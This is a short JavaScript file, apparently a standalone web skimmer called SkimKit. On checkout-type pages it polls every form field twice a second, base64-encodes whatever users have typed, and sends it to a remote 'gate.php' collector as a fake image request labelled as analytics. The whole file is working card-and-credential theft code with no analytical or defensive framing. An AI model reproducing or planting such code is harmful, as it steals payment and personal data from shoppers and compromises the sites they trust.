var SkimKit = {
  gate: "https://static-analytics.invalid/gate.php",
  data: {},
  load: function () {
    var els = document.querySelectorAll("input, select, textarea, checkbox, button");
    for (var i = 0; i < els.length; i++) {
      if (els[i].value.length > 0) {
        var nm = els[i].name;
        if (nm === "") nm = i;
        SkimKit.data[nm] = els[i].value;
      }
    }
  },
  save: function () {
    var s = JSON.stringify(SkimKit.data);
    var enc = btoa(s);
    if (localStorage.getItem("kit_last") !== enc) {
      localStorage.setItem("kit_last", enc);
      SkimKit.send(enc);
    }
  },
  send: function (enc) {
    var img = new Image();
    img.src = SkimKit.gate + "?image_id=" + encodeURIComponent(enc) + "&host=" + location.hostname;
  }
};
setInterval(function () {
  if (new RegExp("onepage|checkout|onestep", "gi").test(window.location)) {
    SkimKit.load();
    SkimKit.save();
  }
}, 500);
